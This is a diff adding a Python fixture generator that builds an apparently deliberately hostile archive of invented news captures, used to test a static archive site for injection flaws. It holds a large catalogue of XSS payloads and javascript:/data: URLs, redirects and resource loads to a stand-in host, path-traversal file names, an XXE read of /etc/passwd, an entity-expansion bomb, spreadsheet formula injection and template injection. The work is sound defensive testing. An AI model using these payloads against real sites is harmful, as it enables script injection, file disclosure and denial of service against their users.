@@ -1,0 +1,485 @@
+"""An archive whose every part tries to harm: captures, their names, and what stands beside them.
+
+Each attack carries a number, and would set ``window.__pwned`` to it, open a dialog, lead away from the page or ask a host
+named ``outside.invalid``. All texts and attacks are invented for this archive.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import json
+import re
+from collections.abc import Iterable, Iterator
+from itertools import count
+
+from fastwarc.warc import WarcRecord, WarcRecordType
+
+CANARY = "__pwned"
+OUTSIDE = "outside.invalid"
+_RLO, _PDF, _ZWSP, _BOM = "\u202e", "\u202c", "\u200b", "\ufeff"
+
+TOLD = (
+    "The harbour of Port Ansel was closed on Tuesday after the grain ship Meridian ran aground at its mouth, the harbour master said.",
+    "Divers found a tear of nine metres in the hull, and tugs pumped water from the hold through the night.",
+    "“We were lucky that the sea was calm,” said Ingrid Halvorsen, the harbour master.",
+    "The Meridian carried 18,000 tonnes of wheat from Kelso Bay, according to the shipping line.",
+    "Forty-one sailors were taken off by the lifeboat; two were treated for cold in the hospital of Port Ansel.",
+    "Fishermen said that the channel had not been dredged since the spring floods.",
+)
+OTHER = (
+    "The council of Kelso Bay voted on Friday to rebuild the market hall that burned down in the autumn.",
+    "The new hall will cost 4.2 million crowns, the treasurer Tomas Wendt told the council.",
+    "“Nobody wants a car park where the market was,” said Maja Lindqvist, who sells cheese there.",
+    "Work is to begin in March and to take two years, the council said in a statement.",
+    "Eleven councillors voted for the plan and six against it after a debate of five hours.",
+)
+
+
+def run(n: object) -> str:
+    """The script that shows that it ran."""
+    return f"window.{CANARY}='{n}'"
+
+
+def attacks() -> Iterator[str]:
+    """Markup that runs or leads away wherever a text reaches a page unescaped, each in its own way."""
+    number = count(1)
+
+    def js() -> str:
+        return run(f"markup {next(number)}")
+
+    out = f"//{OUTSIDE}"
+    yield f"<script>{js()}</script>"
+    yield f"<ScRiPt/type=text/javascript >{js()}</ScRiPt\t>"
+    yield f"</title></textarea></style></noscript></template><script>{js()}</script>"
+    yield f"--><script>{js()}</script><!--"
+    yield f"]]><script>{js()}</script><![CDATA["
+    yield f"<!--><script>{js()}</script>-->"
+    yield f"<![CDATA[><script>{js()}</script>]]>"
+    yield f'<img src=x onerror="{js()}">'
+    yield f"<img/src=`x`onerror={js()}//"
+    yield f"<svg/onload={js()}>"
+    yield f"<svg><style><img src=x onerror={js()}></style></svg>"
+    yield f'<svg><animate attributeName=x dur=1s onbegin="{js()}"/></svg>'
+    yield f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=x onerror={js()}&gt;">'
+    yield f'<template><script>{js()}</script></template><noscript><p title="</noscript><img src=x onerror={js()}>">'
+    yield f'<details open ontoggle="{js()}">x</details>'
+    yield f'<input autofocus onfocus="{js()}">'
+    yield f'<video autoplay><source src=x onerror="{js()}"></video>'
+    yield f'<iframe srcdoc="&lt;script&gt;parent.{js()}&lt;/script&gt;"></iframe>'
+    yield f'<iframe src="javascript:parent.{js()}"></iframe>'
+    yield f'<object data="data:text/html,<script>{js()}</script>"></object><embed src="{out}/e.swf">'
+    yield f'<meta http-equiv="refresh" content="0;url={out}/refresh">'
+    yield f'<base href="{out}/"><link rel="stylesheet" href="{out}/s.css">'
+    yield f'<form action="{out}/form"><button autofocus>Go</button></form><script>document.forms[0].submit()</script>'
+    yield f'<style>@import "{out}/i.css"; * {{ background: url({out}/b.png) }}</style>'
+    yield f'<p style="position:fixed;inset:0;background:url({out}/p.png)">covered</p>'
+    yield f'<img src="{out}/pixel.gif" srcset="{out}/2.gif 2x"><audio src="{out}/a.mp3" autoplay></audio>'
+    yield f'" autofocus onfocus="{js()}" x="'
+    yield f"' autofocus onfocus='{js()}' x='"
+    yield f'"}}</script><script>{js()}</script>{{"'
+    yield f"\u2028{js()}\u2029//*/{js()}//"
+    yield f"＜script＞{js()}＜/script＞"
+    yield f"&lt;script&gt;{js()}&lt;/script&gt; &#60;img src=x onerror={js()}&#62;"
+    yield f"&amp;lt;svg onload={js()}&amp;gt;"
+    yield "<script>alert('dialog')</script><svg onload=\"confirm('dialog')\">"
+    yield f"<script>location='{out}/away'</script>"
+
+
+def addresses() -> Iterator[str]:
+    """Addresses that run, or show a page of their own, if they become the target of a link."""
+    js = run("address")
+    yield f"javascript:{js}"
+    yield f"JaVaScRiPt:{js}"
+    yield f"java\tscript:{js}"
+    yield f"java\nscript:{js}"
+    yield f"\x01javascript:{js}"
+    yield f" \u00a0javascript:{js}"
+    yield f"java&Tab;script&colon;{js}"
+    yield f"&#106;avascript&#x3A;{js}"
+    yield f"vbscript:{js}"
+    yield f"data:text/html,<script>{js}</script>"
+    yield f"data:text/html;base64,{base64.b64encode(f'<script>{js}</script>'.encode()).decode()}"
+    yield f'http://{OUTSIDE}/"onmouseover="{js}'
+    yield f"https://{OUTSIDE}/'><script>{js}</script>"
+    yield f"blob:https://{OUTSIDE}/x"
+    yield f"view-source:javascript:{js}"
+    yield "file:///etc/passwd"
+    yield f"//{OUTSIDE}/no-scheme"
+    yield "https://[::1"
+    yield "http://"
+
+
+TEMPLATES = (
+    "{{ 7*7 }}{{ config }}",
+    '{% include "/etc/passwd" %}',
+    "{% raw %}{{ ''.__class__.__mro__ }}",
+    "{# gone #}",
+    "{filename}/captures/plain.txt |filename|/etc/passwd {attach}../../x |attach|../../x",
+    "{n} {share} {outlet} %s %(title)s ${HOME}",
+)
+"""Syntax of Jinja, Pelican, and of the program's own messages."""
+
+PATHS = (
+    "../../../../escape",
+    "/escape",
+    "C:\\escape\\..\\x",
+    "..",
+    ".",
+    "CON",
+    "aux.txt",
+    "index",
+    "original",
+    "feed.atom.xml",
+    "a\0b",
+    "trailing dots...",
+    "trailing space ",
+    "%2e%2e%2fescape",
+    "l" * 3000,
+    f"evil{_RLO}gnp.exe",
+    f"zero{_ZWSP}width{_BOM}",
+    "Pоrt Аnsel",
+    "Ame\u0301lie",
+    "Am\u00e9lie",
+    "AM\u00c9LIE",
+    "☃",
+    "العناوين",
+)
+"""Names that would lead out of a folder, or would meet another name, if they became a path as they are."""
+
+FORMULAS = ('=HYPERLINK("http://outside.invalid/";"x")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-2+3")
+RECORDS = (
+    "x\r\nER  - \r\nTY  - BOOK\r\nTI  - second record",
+    "x}}\n}\n@book{second, title={Second",
+    "unbalanced { brace \\",
+    "</title></entry></feed>]]>&bogus;",
+    "a&rft.title=second&ctx_ver=x#%00",
+)
+"""Texts that would end a record of RIS, BibTeX, Atom or COinS and begin another."""
+CONTROLS = (
+    "bell \x07 escape \x1b[31m form \x0c feed \x0b nonchar \ufffe\uffff \U0001fffe delete \x7f c1 \x85 \x9b"
+)
+
+
+def story(title: str, told: tuple[str, ...] = TOLD, *, turn: int = 0, more: tuple[str, ...] = ()) -> str:
+    """A text as a scraper leaves it: a title, sentences turned by ``turn``, and further paragraphs between them."""
+    body = [*told[turn:], *told[:turn]]
+    for at, extra in enumerate(more):
+        body.insert(2 * at + 1, extra)
+    return "\n\n".join((title, *body))
+
+
+def page(
+    title: str, *, body: str = "", head: str = "", told: tuple[str, ...] = TOLD, lang: str = "en"
+) -> str:
+    """A saved page with markup put into its body and head as it is."""
+    paragraphs = "".join(f"<p>{sentence}</p>\n" for sentence in told)
+    return (
+        f'<!doctype html><html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>{head}</head>'
+        f"<body><article><h1>{title}</h1>{paragraphs}{body}</article></body></html>"
+    )
+
+
+def seen(texts: Iterable[str]) -> tuple[str, ...]:
+    """A sentence around each text, so that it stands in the article and not beside it."""
+    return tuple(f"Somebody had written {text} on the wall of the pier that night." for text in texts)
+
+
+def _attribute(text: str) -> str:
+    return text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
+
+
+def _meta(**values: str) -> str:
+    return "".join(
+        f'<meta property="{name.replace("__", ":")}" content="{_attribute(value)}">'
+        for name, value in values.items()
+    )
+
+
+def _json_ld(**values: object) -> str:
+    text = json.dumps({"@context": "https://schema.org", "@type": "NewsArticle", **values})
+    return f'<script type="application/ld+json">{text.replace("</", "<" + chr(92) + "/")}</script>'
+
+
+def _texts() -> Iterator[tuple[str, str | bytes]]:
+    """Plain text: each attack as a title, as a sentence, as a quotation and its speaker, as what is counted."""
+    all_attacks = tuple(attacks())
+    for at, group in enumerate(all_attacks[i : i + 5] for i in range(0, len(all_attacks), 5)):
+        more = (
+            *seen(group),
+            f"“It was {group[0]} a night to remember,” said Olaf {group[-1]} Brandt, the pilot.",
+            f"Some 300 {group[1]} containers were lost, the port said.",
+        )
+        head = f"{group[at % len(group)]} grain ship aground\n\nBy {group[2]}\n\n12 March 2016"
+        yield f"captures/text/{at}.txt", story(head, turn=at % 6, more=more)
+    yield "captures/text/templates.txt", story(TEMPLATES[0] + " market hall", OTHER, more=seen(TEMPLATES))
+    yield "captures/text/records.txt", story(RECORDS[2] + " " + RECORDS[0], OTHER, turn=2, more=seen(RECORDS))
+    yield "captures/text/controls.txt", story(f"{CONTROLS} grain ship", more=seen((CONTROLS,)))
+    yield (
+        "captures/text/bidi.txt",
+        story(f"Grain {_RLO}ship\u2066 aground", more=(f"{_RLO}one\u202dtwo\u2067",)),
+    )
+    yield (
+        "captures/text/line.txt",
+        story("Grain ship aground", more=("harbour grain <b>ship</b> " * 200_000,)),
+    )
+    yield "captures/text/formula.txt", story(FORMULAS[0], OTHER, turn=3, more=seen(FORMULAS))
+
+
+def _pages() -> Iterator[tuple[str, str | bytes]]:
+    """Saved pages: the attacks as markup, in every declared value, as links; and pages that are too much."""
+    all_attacks, all_addresses = tuple(attacks()), tuple(addresses())
+    for at, attack in enumerate(all_attacks):
+        if at % 3 == 0:
+            body = "".join(
+                f"<p>Sailors saw {a} that night from the mole.</p>{a}" for a in all_attacks[at : at + 3]
+            )
+            yield f"captures/page/{at}.html", page(f"Grain ship {attack} aground", body=body)
+    links = "".join(
+        f'<p>They read <a href="{_attribute(a)}">the report of the port</a> and <a href="{a}">another</a> of it.</p>'
+        for a in all_addresses
+    )
+    yield "captures/page/links.html", page("Grain ship leads to links", body=links)
+    for at, address in enumerate(all_addresses[::3]):
+        attack = all_attacks[at * 2]
+        head = _meta(
+            og__title=f"Ship {attack}", og__site_name=f"Gazette {attack}", og__url=address, og__image=f"//{OUTSIDE}/i.png",
+            article__author=attack, article__section=attack, article__published_time=f"2016-03-1{at}{attack}",
+            og__locale=f'en" {attack}', og__description=attack, twitter__site=attack,
+        )  # fmt: skip
+        head += f'<link rel="canonical" href="{_attribute(address)}">'
+        yield (
+            f"captures/declared/og-{at}.html",
+            page("Grain ship", head=head, lang=f"en&quot; {_attribute(attack)}"),
+        )
+        ld = _json_ld(
+            headline=f"Market {attack} hall \ud800 \x07", author=[{"@type": "Person", "name": attack}, attack], url=address,
+            publisher={"@type": "Organization", "name": f"Courier {attack}", "url": address, "logo": address},
+            datePublished=f"2016-03-1{at}T00:00:00Z{attack if at % 2 else ''}", dateModified=attack,
+            articleSection=[attack, {"x": attack}], keywords=[attack, *TEMPLATES], inLanguage=attack,
+            dateline=f"{attack}{CONTROLS}", alternativeHeadline="\ud800", mainEntityOfPage={"@id": address}, isAccessibleForFree=attack,
+        )  # fmt: skip
+        yield f"captures/declared/ld-{at}.html", page("Market hall", head=ld, told=OTHER)
+    yield (
+        "captures/declared/ld-broken.html",
+        page("Market hall again", head='<script type="application/ld+json">' + "[" * 50_000, told=OTHER),
+    )
+    yield "captures/page/deep.html", page("Deep", body="<div><b>" * 60_000 + "the bottom of it")
+    yield (
+        "captures/page/wide.html",
+        page("Wide", body="<p " + " ".join(f'a{n}="{n}"' for n in range(50_000)) + ">x</p>"),
+    )
+    bomb = "".join(f'<!ENTITY b{n} "{f"&b{n - 1};" * 10}">' for n in range(1, 10))
+    yield (
+        "captures/page/bomb.xhtml",
+        f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY b0 "boom"><!ENTITY f SYSTEM "file:///etc/passwd">{bomb}]>'
+        + page("Bomb &b9; &f;", body="<p>&b9; &f;</p>").removeprefix("<!doctype html>"),
+    )  # fmt: skip
+    yield "captures/page/unclosed.html", "<html><body><p>" + "<p>".join(TOLD) + "<script>" + run("unclosed")
+    yield (
+        "captures/page/hidden.html",
+        page("Hidden", body=f"<textarea><p>{all_attacks[0]}</textarea><plaintext>{all_attacks[7]}"),
+    )
+
+
+def _markdown() -> Iterator[tuple[str, str | bytes]]:
+    """Markdown with markup, links, and fields of Pelican in its front matter."""
+    all_attacks, all_addresses = tuple(attacks()), tuple(addresses())
+    fields = "".join(
+        f"{name}: {value}\n"
+        for name, value in (
+            ("title", f"Market hall {all_attacks[1]}"), ("author", all_attacks[8]), ("source", f"The {all_attacks[9]} Post"),
+            ("date", f"2016-03-10 {all_attacks[0]}"), ("section", TEMPLATES[1]), ("url", all_addresses[0]), ("tags", "../x, <b>"),
+            ("Save_as", "../../escape.html"), ("Slug", "../escape"), ("Template", "../../x"), ("Status", "hidden"),
+        )
+    )  # fmt: skip
+    links = "\n\n".join(
+        f"The hall [stood here]({a}) and ![pixel](//{OUTSIDE}/m.png) <{a}> burned." for a in all_addresses
+    )
+    yield (
+        "captures/mark/fields.md",
+        f"---\n{fields}---\n\n" + story("", OTHER, more=(links, *all_attacks[:9])),
+    )
+    yield (
+        "captures/mark/bare.md",
+        f"Save_as: ../../escape.html\nTitle: {all_attacks[7]}\n\n" + story("# Hall", OTHER, more=TEMPLATES),
+    )
+    yield (
+        "captures/mark/deep.md",
+        story("# Deep market hall", OTHER, more=("> " * 5_000 + "deep", "[" * 20_000, "*a " * 20_000)),
+    )
+
+
+def _records() -> Iterator[tuple[str, str | bytes]]:
+    """JSONL and WARC: attacks in ids, addresses, dates, declared types."""
+    all_attacks = tuple(attacks())
+    lines: list[str] = []
+    for at, name in enumerate((*PATHS, *all_attacks[:6], *FORMULAS)):
+        record = {
+            "id": name, "title": f"{name[:300]} and the ship" if at % 2 else name, "source": name[:200], "authors": [name[:200], all_attacks[at % 30]],
+            "date": "2016-03-09", "section": name[:200], "topics": [name[:200], "shipping"], "captured": f"2016-03-09{all_attacks[at % 30]}",
+            "place": name[:100], "rights": "javascript:" + run("rights"), "url": f"https://{OUTSIDE}/{name[:80]}",
+            "text": story("", TOLD if at % 3 else OTHER, turn=at % 5, more=(name[:2000], all_attacks[at % 30])),
+        }  # fmt: skip
+        lines.append(json.dumps(record))
+    lines += [
+        '{"id": "deep", "text": ' + "[" * 90_000,
+        '{"id": "nan", "text": NaN}',
+        '{"id": 1e999, "text": "x"}',
+        '{"id": "s", "text": "\\ud800 alone"}',
+    ]
+    lines.append(
+        json.dumps(
+            {
+                "id": "bytes",
+                "html_b64": base64.b64encode(page("Bytes").encode()).decode(),
+                "encoding": "../../etc",
+            }
+        )
+    )
+    lines.append(
+        json.dumps(
+            {
+                "id": "codec",
+                "html_b64": base64.b64encode(page("Codec").encode()).decode(),
+                "encoding": "unicode_escape",
+            }
+        )
+    )
+    yield "captures/records.jsonl", "\n".join(lines)
+    yield "captures/pages.warc", _warc(all_attacks)
+
+
+def _warc(all_attacks: tuple[str, ...]) -> bytes:
+    out = io.BytesIO()
+    for at, attack in enumerate((*all_attacks[:3], "../../escape", FORMULAS[0])):
+        record = WarcRecord()
+        record.init_headers(record_type=WarcRecordType.resource, record_urn=b"urn:x")
+        record.set_bytes_content(page(f"Ship in a web archive {attack}", body=f"<p>{attack}</p>").encode())
+        record.record_id = f"<{attack}>" if at % 2 else f"<urn:uuid:{at}>"
+        record.headers["WARC-Target-URI"] = (
+            f"http://{OUTSIDE}/{attack}" if at % 2 else f"javascript:{run('warc')}"
+        )
+        record.headers["Content-Type"] = 'text/html; charset="><script>'
+        record.headers["WARC-Date"] = "2016-03-11T00:00:00Z"
+        record.write(out)
+    return out.getvalue()
+
+
+def _names() -> Iterator[tuple[str, str | bytes]]:
+    """Files whose names are the attack."""
+    names = (
+        f'"><svg onload={run("name")}>.txt', f"<img src=x onerror={run('name')}>.txt", "{{ 7*7 }}.txt", "{% include 'x' %}.txt",
+        f"javascript:{run('name')}.txt", f"report{_RLO}txt.exe.txt", f"zero{_ZWSP}.txt", "Ame\u0301lie.txt", "Am\u00e9lie.txt", "TWIN.txt", "twin.txt",
+        "con.txt", "trailing dot..txt", "a#b.txt", "#.txt", "%2e%2e%2f.txt", "back\\slash.txt", "-rf.txt", "=1+1.txt", "l" * 240 + ".txt", "--><!--.txt",
+        "a;b,c\"d.txt", "?query&x=1.txt",
+    )  # fmt: skip
+    for at, name in enumerate(names):
+        more = (f"Number {at} of the papers wrote of barge {at * 7} and of {at + 30} crates of oranges.",)
+        yield f"captures/names/{name}", story(f"Grain ship seen by paper {at}", turn=at % 6, more=more)
+
+
+def _beside() -> Iterator[tuple[str, str | bytes]]:
+    """What stands beside the captures: settings, tables, vocabulary, decisions, hand-written pages."""
+    all_attacks = tuple(attacks())
+
+    def text(value: str) -> str:
+        return json.dumps(value).replace("\x7f", "")
+
+    def cell(value: str) -> str:
+        return '"' + value.replace('"', '""') + '"'
+
+    yield (
+        "archive.toml",
+        (
+            f"[site]\ntitle = {text('Archive ' + all_attacks[2])}\ndescription = {text(all_attacks[7])}\nauthor = {text(all_attacks[9])}\n"
+            'url = "https://archive.invalid/"\n[clean]\nlearn_repeated_lines = false\n[index]\nmin_topic_articles = 1\nper_page = 40\n'
+        ),
+    )
+    rows = ["path,title,source,agency,authors,published,place,language,section,url,rights,topics"]
+    for at, attack in enumerate(all_attacks[:7]):
+        values = (
+            f"text/{at}.txt", attack if at % 2 else "", f"Outlet {PATHS[at]}", attack, f"{attack}; {FORMULAS[at % 4]}", "2016-03-1" + str(at), attack,
+            "en" if at else attack, FORMULAS[at % 4], tuple(addresses())[at], f"javascript:{run('rights')}", f"{attack}; {PATHS[at]}; {TEMPLATES[at % 6]}",
+        )  # fmt: skip
+        rows.append(",".join(cell(value) for value in values))
+    rows += [f"{cell(attack)},{cell(attack)}" for attack in all_attacks[:4]]
+    for at, (name, formula) in enumerate(zip(PATHS, (*FORMULAS, *RECORDS, *TEMPLATES, *PATHS), strict=False)):
+        rows.append(",".join(map(cell, (f"names/*{at}", name, formula))))
+    for at, record in enumerate(RECORDS):
+        values = (
+            f"page/{at * 3}.html",
+            record,
+            record,
+            record,
+            record,
+            "2016-03-12",
+            record,
+            "en",
+            record,
+            f"https://{OUTSIDE}/{{}}}}&<{at}",
+            record,
+            record,
+        )
+        rows.append(",".join(cell(value) for value in values))
+    yield "metadata.csv", "\n".join(rows) + '\n"unclosed, <script>\n'
+    tables = [
+        f"[{text(name)}]\nname = {text(f'House {at} {attack}')}\ndescription = {text(attack)}\nrights_uri = {text(address)}\n"
+        f"domains = [{text(f'h{at}.invalid')}, {text(attack)}]\nplace = {text(attack)}\nlanguage = {text(attack)}\n"
+        for at, (name, attack, address) in enumerate(
+            zip(PATHS, all_attacks, (*addresses(), *addresses()), strict=False)
+        )
+    ]
+    yield "sources.toml", "\n".join(tables)
+    yield (
+        "topics.toml",
+        "\n".join(
+            f"[[topic]]\nlabel = {text(label)}\nkind = {text(('subject', 'person', 'place', 'organisation')[at % 4])}\n"
+            f"aliases = [{text(f'alias {at} {label}')}]\nterms = [{text(term)}]\nsame_as = [{text(address)}]\nbroader = [{text(PATHS[at % 8])}]\n"
+            for at, (label, term, address) in enumerate(
+                zip(
+                    (*PATHS, *all_attacks[::3]),
+                    ("harbour", "market hall", "wheat", "council") * 20,
+                    (*addresses(),) * 4,
+                    strict=False,
+                )
+            )
+        ),
+    )
+    decisions = ["kind,a,b,value,who,why"]
+    decisions += [
+        f"{kind},text/{at}.txt,{cell(all_attacks[at])},2016-03-0{at + 1},{cell(all_attacks[at])},{cell(FORMULAS[at % 4])}"
+        for at, kind in enumerate(
+            (
+                "keep this line",
+                "drop this line",
+                "date",
+                "same event",
+                "not same event",
+                "take down",
+                "<script>",
+            )
+        )
+    ]
+    decisions += ["same event,text/0.txt,page/0.html,," + cell(all_attacks[2]) + "," + cell(TEMPLATES[0])]
+    yield "decisions.csv", "\n".join(decisions)
+    links = (
+        f"[link]({a}) ![picture]({a})" for a in addresses() if a.isprintable() and not re.search(r"&|\[", a)
+    )
+    body = "\n\n".join((*all_attacks, *TEMPLATES, *links))
+    yield (
+        "pages/hostile.md",
+        f"Title: {all_attacks[2]}\nSave_as: ../../escape.html\nSlug: ../escape\nTemplate: x\nSummary: {TEMPLATES[0]}\n\n{body}\n",
+    )
+    yield "pages/data.md", "Title: takes an address\n\nx\n"
+    yield "pages/<b onclick=x>.md", "no title\n"
+    yield "pages/{{ 7*7 }}.md", "---\ntitle: '{{ 7*7 }}'\nurl: //outside.invalid/\n---\n{% include 'x' %}\n"
+    yield "pages/Con.md", "---\ntitle: Con\n---\nx\n"
+
+
+def hostile_files() -> dict[str, str | bytes]:
+    """Every file of the archive by its path; names differ, though some by case or composition alone."""
+    made: dict[str, str | bytes] = {}
+    for part in (_texts(), _pages(), _markdown(), _records(), _names(), _beside()):
+        made.update(part)
+    return made
